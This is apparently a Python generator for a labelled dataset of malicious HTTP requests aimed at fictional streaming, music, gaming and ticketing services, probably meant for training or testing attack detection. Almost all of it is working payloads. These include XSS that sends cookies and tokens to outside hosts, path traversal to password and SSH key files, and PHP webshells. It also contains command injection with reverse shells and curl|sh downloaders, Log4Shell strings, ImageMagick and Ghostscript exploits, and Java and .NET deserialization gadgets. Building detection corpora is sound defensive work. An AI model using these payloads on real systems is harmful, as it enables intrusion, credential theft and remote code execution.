        h = browser(rng, LIVE_API, origin=LIVE_WEB) + [["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"], ["X-CSRF-Token", b62(rng, 40)]]
        out.append(mk(c, "chat", "POST", "/api/chat/speedrunsdaily/send", h, form([("message", msg), ("nonce", hexid(rng, 32))])))

    chat_json("PogChamp <img src=x onerror=fetch('https://xss.report/c?'+document.cookie)>")
    chat_form("<svg/onload=alert(document.domain)>")
    out.append(mk(c, "chat", "POST", "/v5/channels/messages", api(rng, LIVE_API, ua=rng.choice(MOBILE_UAS), ctype="application/json; charset=utf-8"),
                  '{"channel":"pixel_paula","text":"gg \\u003cscript\\u003enew Image().src=\'//%s/?t=\'+localStorage.getItem(\'auth\')\\u003c/script\\u003e","client_nonce":"%s"}' % (OAST, uuid4(rng))))
    chat_json("Kappa\"><script src=//js.rip/x9k></script>")
    chat_form("<ScRiPt\n>alert(String.fromCharCode(88,83,83))</sCrIpT>")
    chat_json("<svg><animate onbegin=alert(1) attributeName=x dur=1s>")

    # subtitles
    def subs(text, kind, lang="en"):
        ctype = {"vtt": "text/vtt", "srt": "application/x-subrip", "ttml": "application/ttml+xml"}[kind]
        out.append(mk(c, "subtitles", "PUT", "/api/v2/videos/%s/captions/%s?kind=subtitles" % (asset_id(rng), lang),
                      api(rng, VID_API, ctype=ctype + "; charset=utf-8", extra=[["Origin", VID_WEB]]), text))
    subs("WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<c.yellow><img src=x onerror=alert(document.cookie)></c>\n", "vtt")
    subs("WEBVTT\n\n1\n00:00:00.000 --> 00:00:02.000\nHello!\n\n2\n00:00:02.000 --> 00:00:05.000\n<script>fetch('https://%s/s',{method:'POST',body:document.cookie})</script>\n" % OAST, "vtt")
    subs("1\n00:00:01,000 --> 00:00:03,500\n<font color=\"red\" onmouseover=\"alert(document.domain)\">MARIA:</font> You're late.\n", "srt")
    subs("1\n00:00:01,000 --> 00:00:03,000\n{\\an8}<b onclick=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>[DOOR SLAMS]</b>\n", "srt")
    subs("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<tt xmlns=\"http://www.w3.org/ns/ttml\" xmlns:h=\"http://www.w3.org/1999/xhtml\" xml:lang=\"en\"><body><div>"
         "<p begin=\"00:00:01.000\" end=\"00:00:03.000\">Hi<h:script>alert(document.domain)</h:script></p></div></body></tt>\n", "ttml")
    subs("WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Roger\"><iframe src=javascript:alert(1)>>We are in New York City\n", "vtt")

    # player names and bios
    out.append(mk(c, "player_name", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"),
                  jdump({"display_name": "\"><script>alert(document.cookie)</script>", "clan_tag": "[FaZe]"})))
    out.append(mk(c, "player_name", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"),
                  jdump({"display_name": "xX_Sn1per_Xx", "clan_tag": "<svg onload=alert`1`>"})))
    out.append(mk(c, "player_name", "GET", "/v1/players/by-name/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E?platform=psn", browser(rng, G_API, origin=G_WEB)))
    h = browser(rng, G_API, origin=G_WEB) + [["Content-Type", "application/x-www-form-urlencoded"], ["X-CSRF-Token", b62(rng, 32)]]
    out.append(mk(c, "player_name", "POST", "/account/profile", h,
                  form([("display_name", "ShadowFox"), ("bio", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(document.cookie)\">my stream</a>")])))
    out.append(mk(c, "player_name", "POST", "/v1/servers/register", game(rng, G_API, ctype="application/json", extra=[["X-Server-Token", b62(rng, 40)]]),
                  jdump({"name": "<marquee onstart=alert(1)>JOIN NOW</marquee>", "port": 27015, "max_players": 32, "map": "de_dust2"})))

    # playlist titles
    out.append(mk(c, "playlist", "PUT", "/v1/playlists/%s" % b62(rng, 22), api(rng, MUS_API, ctype="application/json", extra=[["Origin", MUS_WEB]]),
                  jdump({"name": "<details open ontoggle=alert(document.domain)>", "public": True})))
    out.append(mk(c, "playlist", "PUT", "/v1/playlists/%s" % b62(rng, 22), api(rng, MUS_API, ctype="application/json", extra=[["Origin", MUS_WEB]]),
                  jdump({"name": "lofi <body onpageshow=alert(1)>", "description": "chill"})))
    out.append(mk(c, "playlist", "GET", "/v1/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E&type=playlist", api(rng, MUS_API, extra=[["Origin", MUS_WEB]])))

    # comments
    def comment(text):
        out.append(mk(c, "comments", "POST", "/api/v2/videos/%s/comments" % asset_id(rng), api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]),
                      jdump({"text": text, "parent_id": None})))
    comment("<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>")
    comment("<a href=\"javascript:alert(document.cookie)\">2:34</a> goosebumps")
    comment("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>")
    comment("<input autofocus onfocus=alert(1)>")
    comment("{{constructor.constructor('alert(document.cookie)')()}}")
    comment("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>")
    h = browser(rng, "www.vidora.tv", origin=VID_WEB) + [["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"], ["X-CSRF-Token", b62(rng, 40)]]
    out.append(mk(c, "comments", "POST", "/comment/create", h,
                  "video=%s&body=%%3Cimg%%20src%%3D1%%20onerror%%3D%%22this.src%%3D%%27https%%3A%%2F%%2Flog.%s%%2F%%3F%%27%%2BlocalStorage.token%%22%%3E&lang=auto" % (asset_id(rng), OAST)))

    # podcast show notes (rendered on the web player)
    rss = rss_doc(rng, "Side Quest Stories").replace(
        "<podcast:locked>no</podcast:locked>",
        "<podcast:locked>no</podcast:locked><itunes:summary>&lt;img src=x onerror=&quot;document.location='https://%s/?c='+document.cookie&quot;&gt;</itunes:summary>" % OAST)
    out.append(mk(c, "podcast_notes", "PUT", "/api/v1/shows/%s/feed.xml" % b62(rng, 10), api(rng, POD_API, ctype="application/rss+xml; charset=utf-8"), rss))
    rss = rss_doc(rng, "Don't Press Start").replace("<description><![CDATA[", "<description><![CDATA[<script>document.location='https://%s/?c='+document.cookie</script>" % OAST, 1)
    out.append(mk(c, "podcast_notes", "PUT", "/api/v1/shows/%s/feed.xml" % b62(rng, 10), api(rng, POD_API, ctype="application/rss+xml; charset=utf-8"), rss))

    # other stored / reflected points
    out.append(mk(c, "stream_title", "PATCH", "/helix/channels?broadcaster_id=%d" % rng.randint(10**7, 10**9), api(rng, LIVE_API, ctype="application/json"),
                  jdump({"title": "!drops enabled <script src=https://cdn.jsdelivr.net/gh/n0tr3al/p@main/x.js></script>", "game_id": "509658"})))
    out.append(mk(c, "lyrics", "POST", "/v1/tracks/%s/lyrics" % b62(rng, 22), api(rng, MUS_API, ctype="application/json", extra=[["Origin", MUS_WEB]]),
                  jdump({"lyrics": {"syncType": "UNSYNCED", "lines": [{"words": "Never gonna give you up"}, {"words": "<img src=1 onerror=\"this.src='https://%s/?'+localStorage.token\">" % OAST}]}})))
    out.append(mk(c, "upload_title", "POST", "/api/v2/uploads?uploadType=resumable", api(rng, VID_UP, ctype="application/json", extra=[["Origin", VID_WEB]]),
                  jdump({"filename": "final.mp4", "size": 104857600, "mime": "video/mp4", "title": "</title><script>alert(document.domain)</script>", "visibility": "public"})))
    out.append(mk(c, "queue_redirect", "GET", "/?c=seatrush&e=erastour24lis&t=javascript:alert(document.cookie)//&cid=en-US",
                  browser(rng, TIX_QUEUE, accept="text/html,*/*;q=0.8")))
    svg = ("<?xml version=\"1.0\" standalone=\"no\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"128\" height=\"128\" onload=\"alert(document.domain)\">"
           "<rect width=\"128\" height=\"128\" fill=\"#09f\"/><script type=\"text/javascript\">fetch('//%s/'+document.cookie)</script></svg>\n" % OAST)
    ct, body = multipart(rng, [("avatar", "avatar.svg", "image/svg+xml", svg)])
    out.append(mkraw(c, "avatar_svg", "POST", "/v1/players/me/avatar", game(rng, G_API, engine="unity") + [["Content-Type", ct]], body))
    return out


def upload_file(rng, c, sub, filename, ctype, data, uri="/api/v2/uploads/simple", host=VID_UP, extra_parts=()):
    parts = [("title", None, None, rng.choice(["clip", "my upload", "test video"]))] + list(extra_parts) + [("file", filename, ctype, data)]
    ct, body = multipart(rng, parts)
    h = browser(rng, host, origin=VID_WEB) + [["Content-Type", ct], ["X-CSRF-Token", b62(rng, 32)]]
    return mkraw(c, sub, "POST", uri, h, body)


def a_lfi():
    rng, out = R("a_lfi"), []
    c = "lfi"

    def seg(uri, sub="segment_path"):
        out.append(mk(c, sub, "GET", uri, player(rng, rng.choice([VID_CDN, VID_EDGE]))))
    seg("/vod/%s/720p/../../../../../../etc/passwd" % asset_id(rng))
    seg("/hls/%s/%%2e%%2e/%%2e%%2e/%%2e%%2e/%%2e%%2e/%%2e%%2e/etc/shadow" % asset_id(rng))
    seg("/dash/%s/video/..%%2f..%%2f..%%2f..%%2f..%%2fproc%%2fself%%2fenviron" % asset_id(rng))
    seg("/vod/%s/720p/%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252fetc%%252fpasswd" % asset_id(rng))
    seg("/assets/..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd", "asset_path")
    seg("/assets/..;/..;/WEB-INF/web.xml", "asset_path")
    out.append(mk(c, "mod_download", "GET", "/api/v1/mods/download?file=..%5C..%5C..%5C..%5Cwindows%5Cwin.ini", browser(rng, G_MODS)))
    out.append(mk(c, "mod_download", "GET", "/mods/files/%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cinetpub%5cwwwroot%5cweb.config", browser(rng, G_MODS)))
    out.append(mk(c, "subtitle_path", "GET", "/api/v2/videos/%s/captions/en?%s" % (asset_id(rng), qs([("format", "vtt"), ("path", "../../../../var/www/app/.env")])),
                  api(rng, VID_API, extra=[["Origin", VID_WEB]])))
    out.append(mk(c, "subtitle_path", "GET", "/subs?file=../../../../etc/passwd%00.vtt&lang=en", player(rng, VID_CDN)))
    out.append(mk(c, "asset_path", "GET", "/v1/assets/texture?name=....//....//....//....//etc/passwd&lod=0", game(rng, G_API)))
    out.append(mk(c, "patch_manifest", "POST", "/v1/patches/verify", game(rng, G_API, ctype="application/json"),
                  '{"build":"1.4.2","files":[{"asset_path":"..\\u002f..\\u002f..\\u002f..\\u002fetc\\u002fpasswd","sha1":"%s"}]}' % hexid(rng, 40)))
    out.append(mk(c, "savegame_path", "GET", "/v1/saves/me/slots/..%2F..%2F..%2F..%2Fapp%2Fconfig%2Fdatabase.yml", game(rng, G_SAVE)))
    out.append(mk(c, "crash_symbols", "GET", "/symbols?pdb=../../../../../../root/.ssh/id_rsa&guid=%s" % hexid(rng, 32).upper(),
                  [["Host", G_TELE], ["User-Agent", "CrashReportClient/++UE5+Release-5.3-CL-29314046 Windows/10.0.22631.1.256.64bit"], ["Accept", "*/*"]]))
    out.append(mk(c, "image_loader", "GET", "/unsafe/300x200/smart/file:///etc/passwd", [["Host", IMG], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", "image/*"]]))

    # ffmpeg playlists uploaded as "videos": the transcoder follows them
    m3u = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://%s/header.y4m|file:///etc/passwd\n#EXT-X-ENDLIST\n" % ATK_IP
    out.append(upload_file(rng, c, "ffmpeg_hls", "clip.avi", "video/x-msvideo", m3u))
    m3u = "#EXTM3U\n#EXT-X-PLAYLIST-TYPE:VOD\n#EXT-X-TARGETDURATION:1\n#EXTINF:1.0,\nfile:///proc/self/cwd/config/secrets.yml\n#EXT-X-ENDLIST\n"
    out.append(upload_file(rng, c, "ffmpeg_hls", "gameplay.mp4", "video/mp4", m3u))
    m3u = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nsubfile,,start,0,end,4096,,:/etc/shadow\n#EXT-X-ENDLIST\n"
    out.append(upload_file(rng, c, "ffmpeg_hls", "trailer.mkv", "video/x-matroska", m3u))
    cc = "ffconcat version 1.0\nfile '/etc/passwd'\nfile '../../../../home/transcoder/.aws/credentials'\n"
    out.append(upload_file(rng, c, "ffmpeg_concat", "playlist.txt", "text/plain", cc, uri="/api/v2/compilations", extra_parts=[("format", None, None, "concat")]))

    # zip-slip entries in mod uploads
    for entry, fname in [("../../../../../var/www/html/mods/shell.php", "BetterHUD-2.zip"),
                         ("..\\..\\..\\..\\Program Files\\ShatterPoint\\Binaries\\Win64\\dxgi.dll", "FPSBoost.zip"),
                         ("NightSky/../../../../../home/ironforge/.ssh/authorized_keys", "NightSky-8k.zip")]:
        z = make_zip([("mod.json", jdump({"id": "x", "version": "1.0"})), (entry, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE8d attacker@kali\n" if "ssh" in entry else b"MZ\x90\x00" + rbytes(rng, 60))])
        ct, body = multipart(rng, [("title", None, None, fname[:-4]), ("version", None, None, "1.0"), ("file", fname, "application/zip", z)])
        out.append(mkraw(c, "zip_slip", "POST", "/api/v1/games/shatterpoint/mods", browser(rng, G_MODS, origin="https://" + G_MODS) + [["Content-Type", ct]], body))
    ct, body = multipart(rng, [("slot", None, None, "1"), ("save", "../../../../etc/cron.d/sync", "application/octet-stream", "* * * * * root curl -s http://%s/c|sh\n" % ATK_IP)])
    out.append(mkraw(c, "upload_filename", "POST", "/v1/saves/upload", game(rng, G_SAVE) + [["Content-Type", ct]], body))
    return out


def a_rfi():
    rng, out = R("a_rfi"), []
    c = "rfi"
    for uri, host in [
        ("/shows/render.php?template=http://%s/shell.txt?" % ATK_IP, "www.tunewave.fm"),
        ("/skins/load.php?skin=ftp://203.0.113.50/pub/skin.php", "community.ironforge-games.com"),
        ("/index.php?page=http://%s/r57.txt%%3F%%00" % ATK_IP, "fansite.ironforge-games.com"),
        ("/forum/viewtopic.php?t=1182&style=%5C%5C203.0.113.50%5Cshare%5Cstyle", G_FORUM),
        ("/player/embed.php?config=http://%s/config.inc?x=" % OAST, "embed.vidora.tv"),
        ("/cron/update.php?path=https%%3A%%2F%%2F%s%%2Fc99.php%%3F" % ATK_IP, "www.seatrush.com"),
        ("/modules/lang.php?lang=HtTpS://pastebin.com/raw/Xy7z9Q1a?&x=", "fansite.ironforge-games.com"),
    ]:
        out.append(mk(c, "include_param", "GET", uri, browser(rng, host, accept="text/html,*/*;q=0.8")))
    h = browser(rng, G_FORUM, origin="https://" + G_FORUM) + [["Content-Type", "application/x-www-form-urlencoded"]]
    out.append(mk(c, "include_param", "POST", "/admin/theme.php", h, form([("theme_file", "http://%s/themes/dark.txt?" % ATK_IP), ("save", "1")])))
    return out


def a_rce():
    rng, out = R("a_rce"), []
    c = "rce"

    def transcode(body, sub="transcode_params"):
        out.append(mk(c, sub, "POST", "/api/v2/videos/%s/transcode" % asset_id(rng), api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]), jdump(body)))
    transcode({"preset": "fast; curl -s http://%s/x.sh | sh" % ATK_IP, "bitrate": "3000k", "renditions": ["720p"]})
    transcode({"preset": "medium", "scale": "1280:720`id`", "codec": "h264"})
    transcode({"preset": "slow", "audio_codec": "aac && python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" % ATK_IP})
    transcode({"preset": "veryfast", "watermark_text": "x;cat${IFS}/etc/passwd${IFS}>${IFS}/var/www/static/p.txt"})
    transcode({"preset": "fast", "output_path": "C:\\exports\\out.mp4 & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"})
    transcode({"preset": "fast", "bitrate": "echo${IFS}Y3VybCAxOTguNTEuMTAwLjcvc3xzaA==|base64${IFS}-d|sh"})
    transcode({"preset": "fast", "thumbnail_at": "00:00:05;{cat,/etc/passwd}"})
    h = browser(rng, VID_API, origin=VID_WEB) + [["Content-Type", "application/x-www-form-urlencoded"]]
    out.append(mk(c, "transcode_params", "POST", "/studio/export", h, form([("resolution", "1920x1080$(wget -qO- 203.0.113.9/k|bash)"), ("fps", "60")])))
    out.append(mk(c, "transcode_params", "GET", "/thumb?v=%s&t=00:00:05%%7Cnc%%20%s%%204444%%20-e%%20/bin/sh" % (asset_id(rng), ATK_IP), browser(rng, IMG)))
    out.append(mk(c, "transcode_params", "GET", "/api/v2/preview?preset=fast%3B%20wget%20http%3A%2F%2F198.51.100.7%2Fm%20-O%20%2Ftmp%2Fm%3Bchmod%20%2Bx%20%2Ftmp%2Fm%3B%2Ftmp%2Fm&v=" + asset_id(rng),
                  api(rng, VID_API)))
    out.append(mk(c, "transcode_params", "GET", "/api/v2/audio/convert?src=%s&bitrate=320%%257Cid%%257C" % b62(rng, 12), api(rng, MUS_API)))
    out.append(mk(c, "upload_filename", "POST", "/api/v2/uploads?uploadType=resumable", api(rng, VID_UP, ctype="application/json", extra=[["Origin", VID_WEB]]),
                  jdump({"filename": "clip$(curl -s http://%s/$(whoami)).mp4" % ATK_IP, "size": 73400320, "mime": "video/mp4", "title": "clip"})))
    out.append(mk(c, "import_url", "POST", "/api/v2/imports", api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]),
                  jdump({"source": "youtube", "url": "https://youtu.be/dQw4w9WgXcQ --exec 'curl %s|sh'" % ATK_IP})))
    out.append(mk(c, "cdn_diag", "GET", "/api/cdn/diagnostics?host=edge-fra3.vidora-cdn.net%3Bid&count=3", [["Host", CDN_API], ["User-Agent", "curl/8.5.0"], ["Accept", "*/*"], ["Fastedge-Key", b62(rng, 32)]]))
    out.append(mk(c, "cdn_diag", "GET", "/api/cdn/diagnostics?host=cdn1%0Acat%20/etc/passwd%0A&count=1", [["Host", CDN_API], ["User-Agent", "curl/8.5.0"], ["Accept", "*/*"], ["Fastedge-Key", b62(rng, 32)]]))
    out.append(mk(c, "server_register", "POST", "/v1/servers/register", game(rng, G_API, ctype="application/json", extra=[["X-Server-Token", b62(rng, 40)]]),
                  jdump({"name": "EU #1", "port": 27015, "map": "de_dust2; bash -i >& /dev/tcp/%s/4444 0>&1" % ATK_IP})))
    out.append(mk(c, "clan_tag", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"),
                  jdump({"display_name": "n00b", "clan_tag": "`curl %s/$(hostname)`" % OAST})))
    out.append(mk(c, "perl_cgi", "GET", "/cgi-bin/stats.pl?file=%7Ccat%20/etc/passwd%7C", browser(rng, "legacy.ironforge-games.com", accept="text/html")))
    h = [["Host", "legacy.ironforge-games.com"], ["User-Agent", "() { :; }; /bin/bash -c 'curl http://%s/s|sh'" % ATK_IP], ["Accept", "*/*"]]
    out.append(mk(c, "shellshock", "GET", "/cgi-bin/serverstatus.cgi", h))
    h = game(rng, G_API, engine="unity", extra=[["Referer", "() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id"]])
    out.append(mk(c, "shellshock", "GET", "/cgi-bin/leaderboard.cgi?board=weekly", h))
    out.append(mk(c, "savegame_path", "POST", "/v1/saves/export", game(rng, G_SAVE, ctype="application/json"),
                  jdump({"slot": 1, "target": "C:\\saves\\slot1.sav & certutil -urlcache -split -f http://%s/b.exe %%TEMP%%\\b.exe & %%TEMP%%\\b.exe" % ATK_IP})))
    out.append(mk(c, "mod_repo", "POST", "/api/v1/mods/import-git", api(rng, G_MODS, ctype="application/json"),
                  jdump({"repo": "ext::sh -c touch% /tmp/pwned", "branch": "main"})))
    out.append(mk(c, "lua_eval", "POST", "/api/v1/servers/%s/console" % uuid4(rng), api(rng, G_API, ctype="application/json"),
                  jdump({"lua": "os.execute('curl -s http://%s/x | sh')" % ATK_IP})))

    # ImageMagick / Ghostscript / exiftool payloads in image uploads
    mvg = ("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|curl -s http://%s/p.sh | bash \")'\npop graphic-context\n" % ATK_IP)
    out.append(upload_file(rng, c, "imagemagick", "thumbnail.jpg", "image/jpeg", mvg, uri="/api/v2/videos/%s/thumbnail" % asset_id(rng), host=VID_API))
    msl_svg = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg width=\"640px\" height=\"480px\" xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
               "<image xlink:href=\"msl:/tmp/php2Xa1.msl\" height=\"100\" width=\"100\"/></svg>\n")
    out.append(upload_file(rng, c, "imagemagick", "banner.svg", "image/svg+xml", msl_svg, uri="/v1/channels/me/banner", host=LIVE_API))
    eps = ("%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\n"
           "mark /OutputFile (%pipe%curl -s http://" + ATK_IP + "/g|sh) currentdevice putdeviceprops\n")
    out.append(upload_file(rng, c, "ghostscript", "cover.jpg", "image/jpeg", eps, uri="/api/v1/shows/%s/artwork" % b62(rng, 10), host=POD_API))
    djvu = (b"AT&TFORM\x00\x00\x01\x10DJVUINFO\x00\x00\x00\n\x00\x01\x00\x01\x18\x00,\x01\x16\x01BGjp\x00\x00\x00\x00ANTa\x00\x00\x00\xd8"
            b"(metadata\n\t(Copyright \"\\\n\" . qx{curl -s http://" + ATK_IP.encode() + b"/e|sh} . \\\n\" b \") )\n")
    out.append(upload_file(rng, c, "exiftool", "avatar.jpg", "image/jpeg", djvu, uri="/v1/players/me/avatar", host=G_API))
    return out


def a_php():
    rng, out = R("a_php"), []
    c = "php"
    out.append(mk(c, "wrapper", "GET", "/assets/get.php?file=php://filter/convert.base64-encode/resource=../config/database.php", browser(rng, "fansite.ironforge-games.com")))
    out.append(mk(c, "wrapper", "POST", "/v1/saves/import", game(rng, G_SAVE, ctype="application/json"),
                  jdump({"import_path": "phar:///var/www/uploads/avatars/7f3e.jpg/x.txt", "slot": 2})))
    out.append(mk(c, "wrapper", "GET", "/player/i18n.php?lang=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==&c=id", browser(rng, "embed.vidora.tv")))
    out.append(mk(c, "wrapper", "GET", "/skins/preview.php?skin=expect://id", browser(rng, "community.ironforge-games.com")))
    out.append(mk(c, "wrapper", "POST", "/index.php?page=php://input", browser(rng, "fansite.ironforge-games.com") + [["Content-Type", "application/x-www-form-urlencoded"]],
                  "<?php system('curl -s http://%s/w|sh'); ?>" % ATK_IP))
    out.append(mk(c, "wrapper", "GET", "/skins/load.php?skin=zip://uploads/mods/skin.zip%23shell.php", browser(rng, "community.ironforge-games.com")))
    out.append(mk(c, "wrapper", "GET", "/assets/get.php?file=" + pq("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.L6.UNICODE|convert.iconv.CP1282.ISO-IR-90|convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp"),
                  browser(rng, "fansite.ironforge-games.com")))
    ser = 'O:8:"Renderer":2:{s:4:"tmpl";s:30:"/var/www/html/uploads/skin.php";s:4:"data";s:30:"<?php eval($_POST[\'x\']); ?>";}'
    out.append(mk(c, "object_injection", "GET", "/account/settings", browser(rng, "fansite.ironforge-games.com") + [["Cookie", "prefs=" + pq(ser)]]))
    shell = "<?php @eval($_POST['x']); ?>\n"
    out.append(upload_file(rng, c, "webshell_upload", "readme.php", "application/x-php", shell, uri="/api/v1/games/shatterpoint/mods/%d/files" % rng.randint(1000, 9000), host=G_MODS))
    out.append(upload_file(rng, c, "webshell_upload", "avatar.php.gif", "image/gif", b"GIF89a;\n<?php system($_GET['cmd']); ?>\n", uri="/forum/profile/avatar", host=G_FORUM))
    return out


def java_serialized_cc():
    """Bytes shaped like a ysoserial CommonsCollections gadget stream."""
    def utf(s):
        return struct.pack(">H", len(s)) + s.encode()
    b = b"\xac\xed\x00\x05" + b"sr" + utf("java.util.PriorityQueue") + bytes.fromhex("94da30b4fb3f82b1") + b"\x03\x00\x02I\x00\x04size" \
        + b"L\x00\ncomparatort" + utf("Ljava/util/Comparator;") + b"xp\x00\x00\x00\x02sr" \
        + utf("org.apache.commons.collections4.comparators.TransformingComparator") + bytes.fromhex("2ff984f02bb108cc") + b"\x02\x00\x02L\x00\tdecoratedq" \
        + b"\x00~\x00\x01L\x00\x0btransformert" + utf("Lorg/apache/commons/collections4/Transformer;") + b"xpsr" \
        + utf("org.apache.commons.collections4.functors.InvokerTransformer") + bytes.fromhex("87e8ff6b7b7cce38") + b"\x02\x00\x03[\x00\x05iArgst" \
        + utf("[Ljava/lang/Object;") + b"L\x00\x0biMethodNamet" + utf("Ljava/lang/String;") + b"[\x00\x0biParamTypest" + utf("[Ljava/lang/Class;") \
        + b"xpur" + utf("[Ljava.lang.Object;") + bytes.fromhex("90ce589f1073296c") + b"\x02\x00\x00xp\x00\x00\x00\x00t" + utf("newTransformer") \
        + b"ur" + utf("[Ljava.lang.Class;") + bytes.fromhex("ab16d7aecbcd5a99") + b"\x02\x00\x00xp\x00\x00\x00\x00w\x04\x00\x00\x00\x03sr" \
        + utf("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl") + bytes.fromhex("0941fbe2e7e0a3d3") + b"\x03\x00\x06I\x00\rt" \
        + utf("java.lang.Runtime") + b"t" + utf("getRuntime") + b"t" + utf("exec") + b"t" + utf("curl -s http://%s/j|sh" % ATK_IP) + b"xx"
    return b


def dotnet_binaryformatter():
    def lp(s):
        return bytes([len(s)]) + s.encode()
    return (b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
            + lp("Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
            + b"\x05\x01\x00\x00\x00" + lp("Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties")
            + b"\x01\x00\x00\x00" + lp("ForegroundBrush") + b"\x01\x02\x00\x00\x00\x06\x03\x00\x00\x00"
            + b"\xb5\x02<ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\" "
            b"xmlns:System=\"clr-namespace:System;assembly=mscorlib\" xmlns:Diag=\"clr-namespace:System.Diagnostics;assembly=system\">"
            b"<ObjectDataProvider x:Key=\"LaunchCalc\" ObjectType=\"{x:Type Diag:Process}\" MethodName=\"Start\"><ObjectDataProvider.MethodParameters>"
            b"<System:String>cmd</System:String><System:String>/c powershell -nop -c iwr http://" + ATK_IP.encode() + b"/p.ps1|iex</System:String>"
            b"</ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>\x0b")


def a_java():
    rng, out = R("a_java"), []
    c = "java"
    # Log4Shell in game-client headers
    h = game(rng, G_API, engine="unity")
    h[1][1] = "${jndi:ldap://%s:1389/Exploit}" % ATK_IP
    out.append(mk(c, "log4shell_header", "GET", "/v1/store/offers?page=1", h))
    out.append(mk(c, "log4shell_header", "POST", "/v1/events/batch", game(rng, G_TELE, ctype="application/json", auth=False,
                  extra=[["X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s/a}" % OAST]]), jdump(telemetry_batch(rng))))
    out.append(mk(c, "log4shell_header", "GET", "/v1/matchmaking/tickets/%s" % uuid4(rng), game(rng, G_MATCH, extra=[
        ["X-Forwarded-For", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//%s/a}" % ATK_IP]])))
    h = [["Host", "mc.ironforge-games.com"], ["User-Agent", "Java/17.0.10"], ["Accept", "application/json"],
         ["Referer", "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://%s/o}" % ATK_IP]]
    out.append(mk(c, "log4shell_header", "GET", "/api/server/status?host=play.ironforge-games.com", h))
    # Minecraft-style chat and signs
    out.append(mk(c, "log4shell_chat", "POST", "/api/minecraft/chat", api(rng, "mc.ironforge-games.com", ua="Java/17.0.10", ctype="application/json"),
                  jdump({"server": "survival-1", "player": "Steve", "message": "${jndi:ldap://%s/a}" % OAST})))
    out.append(mk(c, "log4shell_chat", "POST", "/v1/saves/sync", game(rng, G_SAVE, ctype="application/json"),
                  jdump({"slot": 1, "world": {"signs": [{"x": 10, "y": 64, "z": -3, "lines": ["${jndi:ldap://127.0.0.1#%s:1389/a}" % OAST, "", "", ""]}]}})))
    out.append(mk(c, "log4shell_name", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"),
                  jdump({"display_name": "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.%s/}" % OAST})))
    out.append(mk(c, "log4shell_query", "GET", "/v1/search?q=%24%7Bjndi%3Aldap%3A%2F%2F" + ATK_IP + "%3A1389%2FBasic%2FCommand%2FBase64%2FY3VybCAxOTguNTEuMTAwLjd8c2g%3D%7D&type=track",
                  api(rng, MUS_API)))
    # deserialization in save games / sessions
    out.append(mkraw(c, "java_deser", "PUT", "/v1/saves/%s/slots/1" % uuid4(rng), game(rng, G_SAVE, engine="unreal", ctype="application/x-java-serialized-object"), java_serialized_cc()))
    blob = base64.b64encode(java_serialized_cc()).decode()
    out.append(mk(c, "java_deser", "GET", "/v1/saves/me/slots?meta=1", game(rng, G_SAVE, extra=[["Cookie", "GAMESESSION=%s" % blob]])))
